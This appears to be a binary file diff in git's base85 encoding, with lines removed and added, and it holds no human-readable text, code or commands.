-38uOlny2OIMr-y*LZ1OyT|@Z}N^rbHIl<nVvL{m%2_5g+pFAVlu`pBgI;2sI$4BMIFAJqro#02=B5$Q$M>y%I0x><R1v{SgW)8Rgvy2JH(NJ_5Gr7z-B
-d0WTZi(+%<t92)M~2=)5{S>x#5yA3n7`!nVC4*eGA{`><a0qH00@+{>T3cU^>E4&K-@a|70&%iVi;3(z_vbG95<F?UU@*4d>IoHF}1S8D=1Z1lm0qPkm
-s^vYzSQXI-=H${%%KRb(3$(dl#K;Ev&^6u)!Am{o=I`q#E$~Cj@8i2J7v&fkCI%bdC)EGo?L-;RAhRwH+~e8`8aemN__ZJOBT6D07U1g#72*6a1<lza0
-nQBa_vHT(9tHFu@xs<>;pp%#I33i_=^Fem`tIX;3+)N`2M+QF&@#vKK=%VO>gC@t*e(PN`Qu3J?M_Y@62>FM1{50B7#+$8*!uD({>fIf+Aa>p78v;ECH
->>}3Hkm9!16^4?+2aw*6kii>G9ty-Q6|NP8c#TyyyrI(;*w(!4LB^DgXcg0000000000000001^ndy=q>OW)b%pV3JT!v+`J4iB?LYo2`2xy!y`Hj^t$
-LT{Uhp~5Jnj36e}^s`$VV-9V9v00Ie12Cg>pf?)Cce5b59h5H2?hKj-}A63P%6+X>Al?;82{F|8dq3h+7a6~q(kD-`qr8SDGw(lqY#Huvx!0P;`O9qtg
-@^EJZ)93QapBM?Q<2ay2Q=vM3h_d^Rl<kk}P3JL%V<@6@w(jo33?;!BwF#Z?O@&@+o2kbD=Iqw!B3+M+B(+w2;@9*C^;!hsEDepKJ!1DbSGtVv5C-z{!
-0QlM+{`B%0FVx)@)eIW>Q~$jK3fTrM!79<)>-Rbd<{L@;NevXn{=@40_4xJ@BM1pM3=c8A#lRRPwOuL86#C)qCLH(f|0NIcCiuSrGrTI?1|jY68Uh#q{
-MZ)eFX;f;FX!+I>jLvQ-q8iYKpx-v{u2@(*!12WH0urD^!z#T2`MKqtIhZy{T9F%5c~7=I|A<F?G+gFQZ~i$AI;+b+%i5Mr!6cXI^P1f4Id#M&o9UE`m
-e?MM<P7M0u&S+@yi4~9_hJ4Bf$Ip(;Ug`5m^)!;F%uGWzym2DCYVQBJlY070kwU@B9f5v*%Ot5)a|F0URp%IsU~h`y8<3tXl(Bfl-0`B|;7I{*(wN|MB
-1v{0IdM+a#^}K}Re)yXUzw>d^QN5eW_d=*<Bx1|9tPxD@a$=N<#{>;dHpassm<=H?afCEO9tEJa7a?zPQByf2;?J6RVW`Rw);)H~X~+!7HuyaU|i5g{h
-cf8fQ(DkIGc1nvb<>EXxT3?mQG813y8<`2{fBn0>Q8TZ2=650kL!5;1286GX*vg;2p5-RNaAJf|q;v?e;z$_8w;VJc0pz!I#3jsOV(oqu|9VhVJ1J&=^
-_5t%JAN=N6-8AIY;O7zp;PBXO-4`nd%<TIfKODpsu_ESG1R3Pi^H$aq@*s)x`hWh@8z&7L4Z8dB>?iQ?9|rB;JTv;e7S;<9$KO>3CJGS}-yZG+76T9M-
-T4;@`O6IS?<geH(k}Mn9W(9lyDu^q6|x)h68!D!6ZR4^+3X(!(-ZRe8}R)3?-3%*5i!X2Ebb`%-4n>vuK)#W$sfJk=J^K#5i1Dv{a4Z-9nj?k^i})q*(
-f1E-~Sw>6Av-`;N0;V%?}bv$0))n!Q&4WO$g*L1>oin<_{h!Uf~b+;;Ie{?JUD403_9?5D*C$MfVB!;v4M{<~k$L^W!MTB3#xn1<Kg(f*nQDA{r1d80Y
-u>^CsWQ7wcTf-6$?ODiy%#0QcHg@8Iy~FWnCgFR~{h<O(Abxd|oLm=pv(<O07n?!GY;<44fT#?N&g1nmIJ?F{Hk2?{OcEJV-u1`5#q1r-b&=ko*RWc@7
-8<vkqP82Q!fvoaPI0S2)B;3XdW-Vo~w86Ve5*U-?x;M^=K1}5Vz=G6lT>lgXi+93?#QSSos$@>K>1!f@+%J#wis~pq&<tY^V*WWGnSGhDO>*@0f>p<v6
-?fl&R3-CDG?(;VY4%n{b+66ooLI4CM(InCr%IPD)89VLv2Pp`@-VXvH>J$Pm@dVEd{srLXBP`}AMz+)hIllt#?fvRC6a@<s{80GgumAuOwqfl5p&rYyA
-P5aJuMG^g-wFLwxb`Lk>+e(|3NacS&#N6$A^;loxXb|uOwqv)6b$~f?++j!4+;_Z1{+AK_Zcen_5J$W65HAm3q0=@#t;ed4D3QI-tac^D*FYq@&L*nVg
-?io1=QL@9qJJI`!~|*1RWCRp%p;`^y&c3^f1?A3lq@%7ySSI?l=Vt#T?Y`P07dPJ?11T`XMO8<mOW_(&!Du9{>jl7%9uUFCP8y71AUc3kd8K{wf8`*Z=
-?k000000000000000W%$SJ{rlq!1v321`uP4l-}fl-1g8EOL>v&;o(A~*02k&ly(8--<t6alA#%#m_|!JM(jytH2op2x>=yz1)CeZc9~v0h7vRq34%GY
-NQ|b2D?*9}X6VA6^0|W~c#_|=${VU=(1nepg{@f+d=JM4I8AjI?>Olkc=OoDZ3?s_?z-`Mk3ibdTun+nz@ZieQeM>jf2NT%{-v2Y>5;hNt=MdoZBqI09
-4*tCvEb9&d#wp?;&L0LF4Amt3>-Y%i0husH<p~k_)(H~qBKy|i1NqlRC&mr!;THc?Bhn=2;S(nm3=`w}(Ldr^%^6eX{pBzO2md7L;|1~G{vZ+a2loaI1
-QOv2;_D~@Cdk(o4$=+27eDwK3?3)r;~mT-Ey@W5M)t|+3J(hx-u>1;-2)uE?Hbw_H2?U`4%Egz^4^CqXWkR?6z=69@%p>{@&R7#=IZ(38vhje8w9);#Z
-TZW|Iz0U&pZsn1}XdR<Vir!zXcrmEFLBd1=jBj`oQraAHg{X|3M?}0PXG47zeE-K%6(&5Bb&uCgUUZ8v_^b<Ng2~+!xQ;Bqb#F)gbIBE#2u0a_`#M{_e
-cg*iP&f9vi?D0Mk16?$`naG~X+_0m|(nB<>u@AhXs9Dm=yP$tUsl3^wid*w9b<0pjKe^E1HmGY`-a)9w#W^(r<X*WU-cIle0d3NRDR>-Ojn7#`^a1OLk
-uFw!0!&jRc<&pQtn;{W~(+%4P+9x&A(!UgaA_zF1U2HG>o=Mxhju_^Ne*&Fr>89N{R-Jm5J5cmcG7w_--0S6nD13~)-!v-(f0|er(`X)c`E&eLpz2N^r
-1U3z$*~TJRe+dKXAWh2DB<cu(BRmxbCCTd@**L{3`WeRFD(>|H3CKbk&*C8R;~Ie>KNbrm0}%q|&g}$D=()jh>Llg&`1SK48Vu|(|Gx+l$u{H94^s6KP
-w=Nm`qVA;Br77i1;!KrBH-ro8Tl<M?x{Kh{nP5?DA5p2A?pMVRks+SC%pCp0sbvb2^q->L(%*61u_yI-O3*X?i$Yo7$ffs;S#MWEivpp2L}w-^A-gX3f
-Isn82~E_=mqKstN-&UL>AWy1I!RX<Os_c3smFY5v@NE`3mka>H85J9_bPxjll`#=N2yT?f()E4;&7jG3eK(860)9?jr#z>&F%;tRp|&91<7a+Y1;X@)h
-VHwF&|o00jKdFH5!x=N|gc^B`rz3+3?70tqK2@D0M)`YuA*F}^k#^aI5jBLWWd&Jgl6>D3<K5BJmm{So|0y%jSC7!DcRunrIl;1K=(<{tSb;4$yaAm0b
-_86^Ja+$zlWI2Y$F=@9_$1>sHE=K@%xJmf+3%FX*3Mg#*44(J{5^(yw&GTi?%2&U&O6C)+!2NW&OE64%M2SO3{*3S|A01hbA&L$Cy8w2q5BT42Zrr1H<
-DAD=|G4})xyc7@45+Mrl=={zs@e3~5-0C$u)%6PWS{CW`9qp@M9j^i{qHv=f$sooA8ywmMHM<)57r6Ni2>15y8wB(J_UGp}4g$vX&nYA^2oTrw4hZ`SC
-h+9+<pM3^5)TyN`wZ>?4I&)a;QOln^d~Z|`1B!a0m=c=;uG^63g#960^R#f4A>mZD)j{R7zOSB{QL6}<J?dT73JCl>p9^D<=+1xTB_C<`p*F;@&Ezs&k
-qA33;78i_zdCw=R^h#0`Sf82nG}QISA9k*$fUNx&S6QF~}A9C)x(I5H0Ql1sc}~_87!19{U9gDCsZn$nOR%)cEu#&m<%&$PfL#PCfhB-%i;7J3GnX^4%
-R2?mXl9LEY~P2l(*a5f(hr#|=Bpa-b3M3g$KP^TGoF#Y4~o=^oI#8{<s)CjbBd0000000000000004L8**3BBjb@*M6UDD3eUA?d$%*a;Q*5Y2ql;VdT
-AG~ojB7t8e^0N(;W79C6L-s9sJ1nm*a7Y`KN7XRJt80Re)04L=u-s0@`@W33{DH8n#$_fMIO#1ND^kfgh@&pRw4h85M4)HY=%m_Bk`q%sR0~jSN^UOB(
-*-GgF2m#;TX1E&^^%K$G9whDy=mM)4QpPah&+A0)2^R4a9<$s#1>7Fy+$bjlDhKY`z!WnZ4o2BH>fWmr&^rO)KCH18_R#6<As{L51ns<2(cT>M<}c08C
-Pos&(NOW^5&;e!|H~uWPRZWi7&zDg|27f;`Sj2QL;Aqy>o~UlGx93l>(3Sk-6#<6-MN41>lVqi{RIcr9S`ab(FiW@^Ap$&>qZ%vEfVSK66X~U0@w~5`~
-eEz<s2g;_Z7FVf8SRN%+}f|^Ccko0mVS-B)`Z685kBVDd7$T7Tr0*GSdg@-{M#g3M3iH*(L$k6!ZB8$!-)5(;5ZRF6_oB#7!mv%qac2ISBw3^fT!176R
-51Cllo({0HF@2+Ke%)&bwu3fU9a3r6SF4?oAp{8|zG&l&%+Ko%GF+)x6~_74yU7uF^M@AWVJ1=&5TGy(G_;_55-&<y?s{sbT7+9Sm_{RH6)66F>t(fIE
-13)dsfM8Mw!{^0~D4i`1)w<ikD5g`@B?&uj6v??Fx(?!b?#i#B5HFNRN7U28a_&fb4-3R~>|L5&J*+|a+#6}#^JnB98z!&-@tR?;*!6xLc5-sc~P4y>8
-*yiyT0TEK&ga9=N4G%r@Dbv~43>NAe1p&Lz=0yJLA_qE91jo$)-7MiY?G*3#_yq<T;0h7p?@E)@Hz*LN(I(U<2MzA(?NJcX5DnkcDj~5m>L>!#5-G6xN
-hldV$@*&Kp+58+<rxh6+y54~GA<9h2ogT+s5KP&-~=o4xhD`P^YY#LAVARs(Nz-o{L2p;6<YTqgcSZS_VwK$-6!w`<_0|f<_gyB=_~^$<kaQ~-XcH@0}
--p@E-eD)@ER-9KLX(f+cy3T@$oJx2V4W?zUAu>2mjt3`9#>~^YHI*>DeFqAL;=63iIOn5Gvvy8S@k!D6IhP54+|c{P`&U?j7#m1Su3d?DX0U&`cu?-zw
-i2zcv;7(GcJu>GCfL*S8}a0^J|s<@s0O7qS=j^eP8b?hzyO2>$jE$^QE(@*oi^=L^BxPx&5F71Gb<_v28~0`D8q4iMO$CJ`<T$`B#a{u=A{69LpW!#T*
-<b_Vn2{q&tA0SEf*;PUR`c?J0N;kyJ}?(GKT|LpPHVEpMP$`SMz*XaZL_}u&AfA-~<>e=&u`UCm?_yp|jG6Jdw-1X;L@8k*g*9REUWWfR7^a<T@-v;vN
-`6v1O69o<YA_B$`6I}w^4*K$<FAVhv*bdwG!cq1J=^VxbGydEP;tBlz+iKzS8|D+RGWgl%2msXH-g)Z~viJq`OXv6s1n>Xp1S$xb^8M-&C-@Ke+~@8m<
-XWll6z}N!N&FA(=jkE%6$<ne^1LDOHXgwU_A>_vz&GUe_VWAc{jV|VEd>vw`CIt@_xtb?<^?Y*`0c*<?jHK|{re8~>^TJY_Y?W|{XX~o_6+0t4gCxK82
-Ih{`7!zT8^`(~`2RH7{PX_({UP}T0000000000000000002_6Ep<p48s3Z1>@}N0Shq|;RNFP5*f7y@#6I{1q2Eg^Y{A<_W}>(_Uj|_SmePr>fjCd4F1
-ah^*9me^|}x(1mOV?`tR}gAqFzo<0R=My!iI`3-}2Z2MPH70sQ+N{Wb#}+B(1raro`y{Pfx)arEff_1zZ8c<$}~_tO1M0R7eQ5+K(GRr~87zzq5V?E3K
-!9M|XJckJ-!>KpYi^7s`k*Z2kPGyCQK`1JE63ilen$_-7*e}Mw;^9JZE3OoY}_xT0&4-HQ20}jyn2z=@l|N6k}`TGX*3=i}7)qffB|I@h=(gyR`AP)G~
->{0~y71svh2LkgA{qxZX@G<TW^akGl_W1oC3f}G8`YadU2=e^=Bjfu6$|2$T>sr7B|Niy~_67R}@%SA5>lg(b_uL%*^ay{!5!?{h7A6Y=0qE`H^43z=_
-yG#k|6>2(|JeZohbBVy3Lnt_(=Pbs`1=R-?kPdv2eR|)^K$X?0TKDZ1IK3CD)#H~;$HFi{G2!tA>lQ!_4oJl?`7u?0T%f31ojFS?fVA+0PXh<BlYF~2;
-lQs0{`vb3I-V=?Cb~m+U~3@5bYcJ`2`2W@dq6X{M7P!?CK2u?iTPF>=WSq1nc=s_2=;G1K}SB4ae{U_UPq*;|Bx>{`?E~>g)XS3i|gy0SOcj3i9>fe}y
-2w70jR5z~Ze8f9R&=h~zJS_yzy}GcfY-*$DLf`wJfX{VE9o@*w%``1}d$9Xs*i!1D$6*h0Ta(}nssNZ3pQ1?mF_0{av(fgbln)w}$`$rTRvJS-aH4ekZ
-?=H&kgH6ZHL0}B5C_Wl6;<q-n`>iq``3-<l|1_So!>IC@w3;h@X|NjX8|Nj7$Px$Zq5H&Z@0YvHT!~gNu2=@LOLKNl({sQ;!=IQ<V4fzBlAOIVsDg(D3
-{Qwc|0{k8Y{ucJ`0`EHh6&cz30VWNSImr|b+A0Jl59Rdr9SExkBq9Cd0}Bu4B@pbE8&wfj(e;P}Am$I*5Bezt&401Z;L`R3`1lF%5DpD}1QFpifezZ`C
-ITV+-0I*bCdUv5{@D3{=K=cU8YA#|+6t%!`wtiZ{QBehJ`@?$)&=bM_wxz~64U`b-uxN{_5Aq*{rUn5`vgez2^0;y^z!}#5ee)C+RX6_8CU}d=mPuz^A
-Rfq>;eQ0{q@HW_Wu#_4CLbz9y9*|&VTm>=?VP~`41NK7zQh|P3-S13jF0h{LmKe1o;og`4G<Z1_L+${{a6000NcjXJkAw26;R=6)`+1?xj2#OPM_Cd!;
-<WCLTNtkX1YaJH|Vg6F)qqKIS{u!TUQ(;qN;fmkK-%6bL<kMVvp>$2Pws7`8q!A)USl^b)@~!@a+{9l$?TIH<o<22DStsf53_W-Y%z)i}K~awWcr!y7;
-*s%gJ;3F7Yh_Ovev{?+95`|Q|%^8W1d$pJ_C>Hp^c^6u+!`P?4T3icx8>Hzcn-uKjZ@AR_j+4pDf0|EQ|0`vYZ0lWy~@A^~v-vHw34G_p!(g5W5@z#Fk
-1O4&<4*vKO1oi+L^~oh5Vgbzw_xiLu5AXud3e@(;VebFt7SaPf0pSJJ2mtTybn)XB-wn++_t4@M{MO#oc<Bzh`|$2Y?)nD<^8o4*C<3?l`0WxY?+5(L?
-h6stUdQwI^6lzn`3d#+^#l425&9VN<{!X3F#`+Z4G{X=J>~WG?e*sU-ZSPM{r|}PPxt}x{OJbw3oH%%?BD(NA^G_D^BEBR7y0`7{rdR)NA&gW7ykYJ`V
-adA{Pz6%GxzW;^a2L%5CsDM_Wk?)CG-UV000000000000000000shAoSo8%nNM_&Cv4p3KcWY2;T_i3;PH4)#xk?1rI6b><sn#_8H*o;y3m>@UL9o;@<
-b?_Y(EtLJai&!v!)4+W`Ie`v&hD@&@1W9NR;{_T~2W@k9#<4gL-9`}-O0Gzlf-9?2PP_~i2U^V%|0?bpr&-U+^T>;m%!#sWzP{?XqD9@h+9`rjeS2K^8
-7<mMg*&E?^L<oVL|@b5|G^cyDR00Zte|K<P$_V*?L@CT*b6H&K+f&SI-@#Ag)C;|!h`vm(12rKU#5V`~vcJ}}E`OxkS{{rv<0ru_5dI$~k;l&T~1Nq|&
-1q0RfRsZcC*$CnX1NQ+0^3VI=S>_AW1l#@y`1l?X-|piCE*0Jd_5T7g;P3yh7w#g_VXFiD{qzD00r>*+0u%c63k(qc-V*Hs6@StJ<q6;VE)x9i=kVq6=
-uh(c00X=MPXgxs-T4f;CNJ|43)%hUG5qE5{t4>-96jX%wDjZiW%2C<Bmm(2*I?lk_ww=gRqgf#v?vuZ-x$C5?)mTKbmtEE68Z510}C1k@$w1$@%9K5?e
-zN)?D{AJ1^4X#00tZ6@BkIz^3*2_@dp3x1_<2q0}KxW)AUmA;1&J!4ebc-8|?f5?*TXh=<nwa-x~KSwe|D;=iPth00<5L_Xzy$>-Y2k0sJ`v9t8gI0R8
-uWh9}P`znkv2;?@9v_T}NQ=_7yo{__7RIqC1@4e|W@1u*vcCIAQf2l@C4{Q%=3O8(K*_x$$fLDDkgvick~+D8)!@B91={0=XdBLqv)v<u+M82R=gNEqo
-6_5b<h+4T)G7V+Nr3;zH6{{H&$0t5i{{SEmI_xk(?0r%zd0s;L5`x^iM00jR4{{iUq^V=i-Q8t0~L+=vb&j0ZJ`Thbd7VHE52J80V-Ubo=@C7a){|)CB
-7OO|^{S*NK{0a#67ys`D=1%qs5%c;52nfYF%QFGXA_Exx_3{S%0>lpWJQ3OH4jSSb3h%!eTO=;r+<_S!{2b{0`2`61f5Fw<#RmWY_5b+_2>4MC4c=3U4
-bAHy2^I?V?dK{G%NYUy&jx?v2=V*^NAZ8_*Q@mj1p@~A1Kk2R4-V?m@!kmP@COM8`vWfI-5M42`27R?{R99432NsM4Di48?+fY=5cT`+_4m(0Wycix2J
--a=0UQ0^0SXP-D#jH58T;uE-`D;RED#0sfBXaV0RIR73K#++_!+S#`s*6|_WL&c=N9H4;tuKn1N8p|^B({I009301Cj
+c-n-$d)RhuRn|M_yym>0L<tpB5BC%(3rlee!Z&Ys%PlAZ%2H5>14YPCL0xbp5`v%t1)>N<fTAl@6x^he@nT{orjnV0n{pda+Oo1%cHi^5uDQnVH|9(0z
+lA~H_rA|_-*aA@u{p;%&T*gjc+~k%Ui4+>AO9DhcmB0|JmLJ?|M)Y`AM%rrI=}OmUwHn#&v?+e|K!)4zv)-L^?dL5c-Z-EU;gCteID`|=Xd_4FFt?f*M
+9u@BmVjQ&Ubp$<Ib=8xF?@K=NG>6{Pt&k+WB4|eLg?!!@u(Ufp2;C`PHBC_2=LGuitR~!&iU#`7b{EOU|G6fsZ`D>dntT|JlF!%JXCY{kNSz^w+-e`~@
+HPpz|y1bIu?5%D;L3kh^@<`5&~$oWJ!6f9w3am#3ZI_QZ#t|HXs8`1}Vy^m*sYU;D!ITR#5F&u{;cr=FkmKR)UFf`9(_^Cy1RL(bpv`oDX=fBS~>$Nu8
+;&hP&t&p7|tT^@b@Ki~ey^9w%k(dS?I_@|sd|4v_g{_(p%<@{mq{`Kc}>zU_!z4f{0U;Krqo<I1t_c_1#zkK2OP5<t}=es@lv(DfAm~THn?dP9(e)BIs
+<b3}(Kl%LG&wSDO;XnL!=dXVEuQ{K-{Q>7c{DeoJ-}F&mbN;2fJ@WilANJMf?LWQf{P<7#iu052`hxQdKKG^PPkP&n&aeKxho67&p)Wk&@2@`e{C9rl8
+Rsv0&X=5j{39N4e){`8^!yoj{rdBh|L7s-r~mn9oqzDho_T)rlOKEjl{Y-^BVY7CK5hNA=l;a{p_jk4KH`ZFSnvAur>#Hq&5vE*@%lem|Jj4TZT<7_{j
+T)`-tAuNJzw#_^|N33(Dk9e{?FFOy!_v+FaD@Ut^efrzk7Y*_uqT{sjv8o^%+ll-1>75{owV7U--QBuYCIb*ZV&BOV`K0`tIx3e%15VpZl)ItsnB2zh-
+^GPriCR|LUi&FFD<J{iBCIZ2i?wc-;C?Z@k}n@7I0f`e*;@aqBOB`MuWXe%WWPcl+swuAlg=Z&=^^bzivN?QsuY|I&y3#QK|Wf86>P|KvgI`eV;nKkZS
+kS^G~uV*R6MedGGzul(e7|LwoGzV(i8UO(}U&s+cGzddXH+Gjj+{o{{%{Q9Z?&)--ddB@||fAkTLSl{x$eg1my&-$|UWA1zZb^o7FT7Tz1fB*Wv@Ac^Q
+r62G`>sz1nVe8x9{M_}k{_U5oFMZRq){p*{SFJzz=+9k0{M|o%eaF{7Vg2g&`Gob<KXZM^dp&M_?2EsA{i(nHkoBK_<Ac^u-X62w<3aaZU;6=nbN$)hf
+BO2nKX>2ta~}P$^+`Yc!1be__d)BAe%$A-|L6fvT<`n0zhu43|Nffw70>$E^_}ndjP;AZ?Y`@$yznE}dwkA&pI`pYhp(^w<Nvh&x0}yhKjN?d%k|yg^O
+x`U=kNTm^KZS+^Vb)A(%0SbiWiJ;9De1;)<1aA53C>boqw_Z#T(zbe&e5g(E08^`T_AXzq@|*SKpl9IlgTD&%gD4=eIrT7uHYy)1STLAN)qY<I(Ld=Lb
+Ij$JgI}<uBg)nIHc3^*i6|W6tCKUa@}PWjOz%yMOF@*Zbe+)~DY01I|DA(!YFu@b^6Q{G<QZe_ucNa;NhPAGw}i@Vx)HKIbc5wchCy@3-FL*YAA(keA(
+c{p9!k2kS$g{U6`(@R$7b`r1GJxbw5#?<a13On=I)N513UZ+M^S6+d&wQ$PItlFxnmt*5;ByVtw^#skm)`UlE-=l}HEcl^o^-0Rj)zid4J-0!~c`Mtj3
+Vduxb>@~NZGQDVh<iq~#j_-Z@OV+#o$#>m)%A;Sh-t9lW@YbjN>>sQ*&$!q50sr`Y&+qxj-&rs1H|}`ypFi-8mv4LbH~#xSd%yE@U-PQ<d*Aj6=RUmle
+t-7Ux7H8*(tE8>eZ;@K^_Xw^*gO8-_Nw(g{`H@(ANuqcuFv?od!Fy|>3{o<FS+NJuGd#Q;MUu|<7Mm5l=r!#zuWJ|-o0u4YoGQ{Z@u<Szqt<apS=!!7|
+Y(vF!z0EeW<+-d;Hm6_db<2%+p@mFphQV*FMHS%+pX>{6+lVzL#N~`Z%>V#6QHxjqyvv6#u-Bb%-C?+dlaBWghlnUxu>PVI1~S$KHqdvvJ}d_EzWk>Qj
+7gpW8H-VTzw_Wf`y2xX0%W^|Ft{FiqnaKi&J@rr{djI?nUnTd!m5J^pdr<2mBD_p!$h?EEKwIi74U@tg5Y@m&47$BVXUoF+cF$5ZcPiI0s>9mn|Mao-y
+cHt`YTP)0tyY*Vdsyvz`vw6|Vbj};pBDPBL`laH^pw=&MLAn}>QREN^XE#9NWY7DUoE&h7qH{$tXY4`Z+VJL;a=zd2VD$f#svBmHD*PZ8&$6*!XU*ngj
+G1i)08>Z4@@mT84yYc69tbhD#Jp4S(bBl#$lO~q3OnW>?{6gWE`P?>+I~%&Ux$#8t!?DhM!!*WE$1@M{nXGyrT45>UOXCaTC*y@<x#HjZw$B^iAHN-EX
+lDgE0r5@zV{B)9O8jgYuB>e=)4<cU9*fM=#Q|~?;sxS6MqZ_qSQ=I=elGTjm2i=#GEV;ArNx%BYdc>OAK&BQo8RV<<2Cqi=PTOi_m8dmER%oR;u+%;<M
+78>j$f$p4W-4d@``1O4{viGh&g^^ifxbc>Op4H`1U!LEuMWI%gm2YOB|^9=)xl{@&0jZPNl?G$8Pc}y~Toeb~N@d-Z4HZ)~qch&S@OJC9YRox;Ry_GI5
+WV_?CEwT0CE!znaFa#QV&wUmW-NvOPX-iQ^Ja(zyY#m4*8>k4r3HJikZ0&+Z8qD_)ha=lIRTxa=J5_@fiIHy&^5EL5BruG+}L?HqtumDq~dr-_w}Kib%
+(SkCI%E^Vx(#Qk+gry4ss#!kkj#cy`5s+TKXqVW9jQ*j14A+ckH{T+{k!N0{%#U+Z3<169`8YU?IsCw_OGbe>}Hg54x@q%$@xSR3Pt+n`@_^PSx^By*9
+>NVCV?ueh?+Y;Z+i5<#ZdAnHV(p_VABG!-7fwl6sEn&ho3{Ct*d|xb7*qQi&*Z`h&8Md-;-q`FGhl6_;iya1Qj^h~jw)J^h;&{g)SumADY(v3n#g3Pb?
+JIGh`{Ye2ar>9)6!xjHTk%@)NAY{{Z61i7qZQk+#YcqAWbO8uD;zI3v$XLO^Iqbdy1Z;=9AiEtezJ4MIlFAAs~QWfQH*muVHJkUyt7ywwD{k#VVC1-3>
+?ldb=vm0ri<4$KCezQ-y6rJou(Q;7@rk3B!2GV@r|>PPc>{ic3{Jy#5ZtB;}vQgpD<|q##>=I_6@5U4`0}<z1QBC?#f^+wh_A(e_vw>*_@fvz)o?*M{N
+R@x7@@p#Cyjw#3sZQiXGxj#(u-$V-0W%yH<VV3e4E@uHTw?9}P;^LG5v%Zr@)HL5qcmn|7^Z-1RsNOB@^xSS?r1WPCD){u)cdySL#Qe^#5H&)Z{dI3n?
+!13R#BV&Z&W_!b^N?mS)qx7oEa8&-8LHBL*Iz_2#4g7MEgPB{!@ocFkA16Ly!hNZepd;EATa{Swf(~g5aahKvn2W|eaRgBl<qIB#>t@^vzy`|J^Z0tUB
+pkr$br+`JqcEl3to7jgo>J#E_#Dko;X0fo9ogJ|TVXt;f6+V2z8R4+vX>Uf?aoURaD3*VV-HAor1|FCV*{2$BRN~De4jJR`w*f;D+jAX^GGf{Bj+~yju
+MHc?vDl{5rEGDAxwCPRhP1g{x3Er~fF_=%)NttGc`8neu!RE~Cj^%i$0A;Pnr8eQhHmiX<5+Z}1l(p^;9(1M73&pOAEz2;H|}^C7Jv1G8Hp>6wIeL*I;
+Z%I*&rldN%I}2w{h6xjE;mRY)ja=iglSIT)^0BCcS`|{kTDxY_H(1=c`^qT>h}cn$O&AzGK?3d)VmMk_B(j{n7Ygc0sco4>F$k0o-PMnoAMe#y^MooH6
+kc5mbYN@cXfL6=xTIZpR`md7xN7oac$NH5zHf2FA`{ZsYCaVpWV|34^?Agv+e?CrXLsDm*`)7#oI1AO<5c;#I~lBSXcX#Dm^&Kht+F9QgR-d8iAHfoJI
+4_+h`qotW`Yg~NsK<LbnRhmVh^564kB^PW9|jyQ<Tz%%}9B*3Gv#@f3Qr!%f+?AX9IbPs==KW<(aOdL;T+iFBt9j_GzZ^Ec^Cy6h+K0p2zOC3&;Fwn4M
+)(-eLT$?Z!5jS$m`4qe`HgGaR*^ju-b=o!Q221goMpW^?JRv_5&x8xmYK1}IN@I30d4+I|3p@7=h~mWyUp;CDc?=?@Ef)k+J`(Cx94f&8aW2<8R())&c
+O$xwb371Qm0sKJh%4f!L4(}1m2L|mFvoAu?DmY=*z!UDFlZ7C2{Tq4Ib0n4*v!Ha<Scvq2VXOf0*gpo&iydtZv?FyM<}jG+^o0-v9Mu2`0RMZ_{638af
+GcHULvZIc$+I)jG<WON|?wwjYAMiN{UmA!q|+s0>q$O#XZ-K5r|V5i^=UHLcsvK^<2$qVXwMzbOeX<oWUb0RIJj;Y$SH2`HY^XokOPaABcd7!FZ8aqQd
+nKs~VeL)3EIEi^T{Ge~G6hrb$D=zQm&uM}&PIjKm2FBC+z}3Mrg_GMXwFH}0N>LKsR~VR$+D|8^tv32#4)Mi^lQ;xwHa5ke;|;CHxYaY9Nrst#*%e0Co
+^+7qb((d<klknw!{j8}EUtq~o^R}msD8nD()K)AItd(yBPVbo`mz=<>}+!Tju!Rn4CahTvK4nk!G_l(iww{ZkBshI~aPI?V%7Kh24lx&8p;s1<AD6s&i
+$rBzYr4WmSb;Ed?QOs@`aaJSvnuu!#W7@c(@$(Zds}mS^Y!<0TJZI$s=}~8*iNR2lBZ$LZ`o?m#{Spqma86?*;t~=~#YXONdLv|u&=^0Jx6MQtbHo*hb
+*_VP$Ue@MtIIl8(uQF;;Ralbt@8^Nn>G=N^4+7^WBfQ5!(1~~xN@Dt;KfI<Ttt&`6MA8rIcv3;RdOCMAs9R?*>r>7Vuu=jGw#wH0buM?#g0sdUfA)0ta
+SDg#_|!!akx5}a6Bv9j=9D-M<%Qj#cT3tIBV7-ws3d%aPJz<P8N-+8^^2PVnjdVmkMDRQBCY?TF^L2bIatn6H&|{37id%FgS>}x@io@;uVPREe7`SG3h
+xf2WL!VVIoi<!Vy%7!+Gsw360Iel5hbcX)#Kw*ac2Zk0*6)$2}dRE~E1R5%$ewBBPnA!N+c(Wh#fo;@Qp5jQzOFAQGc4WCtLK`_-|G{A(8pFdB>Ps>G@
+~3*UGl7vZRJV7XT$k*v&NSI8B%h!n@T_Uw2Z#;{n}+N-%mtXp{I%6*H~i-%iw11tUqn4^*x?c^~L&&E~YXvF`BF~m-oSOQw`54(?1iFsz%Y##N21L@XG
+f+8wH1YY>F2^+wEaM;4m#tIO8ZQ97;wl$u}m-~=*!rVAQ!JP#skmbG_oJNd7UO2N{C9(<dA9An4b&KUIbrIgc&KmU2T?<;$*Xlw@Af`g#8ozTBr=G+wc
+RL<&Gn|MMUJ1$Bm}C2iRN~adk8_;Oes`|`M+U&g%-fyZ{lh(vV=R-|o<Y3!a_X7Im?oNek{M$yj6ug1nQPzYBcq!MlljLfW3tFXW@3i;dLA;)Tp?Qx6I
+@U6*5RixPogb4>gIM07hKnj<?eZPas0$*TEi}qz&c~pCtMi^GZrpBmL10>c>JfzI$k-cBL^UU__Aw0+jQdWmT;@0SEDI>69^iI)1_-v-Q4L0^D>s|mP}
++f*f|ieTE)o-TH@_GhNxBX4U+COlbl=w^qz?guCQ>CM_`-Gp7Bc&d&Q#{&OhM?8A_~Lyilx16{Z_OQz!8x-EHLxbG93f4!6OrC2;9PJDJY<B5~=r$kpO
+DU5Ch_Nkzjqgw5o~2$H9Cve@^!6!*Vywn0aLCwG0p5fKxMnY3*)*)xGz0YHdAN^~&pUFC9W=8O<J0jp;k7{YsW4F|l$b`JBkM05ylP{n>@Q!5v!=tGD<
+rrIk$v}A_m6^xJ5X>42{Zn9^X%fW3XcFt6JAZG@oiZ36oMT^22im#}oDFn?EVBzekCohd<ZQ_qhLR0{n!!<(m_~#|Emx$cBzd(6L(i*J{LBU*k9MdkW6
+$c~UX$ET(?j#hArKy94d&h+I6L%`k1SY$1t>c7}-19Z@9-Q8W!3i@UF3`gzbIPyrh83Kb^dxRBXe$<gTYMs)<&+H?W+EKXs?A;1G;W5w7<R(%_<+c%2Q
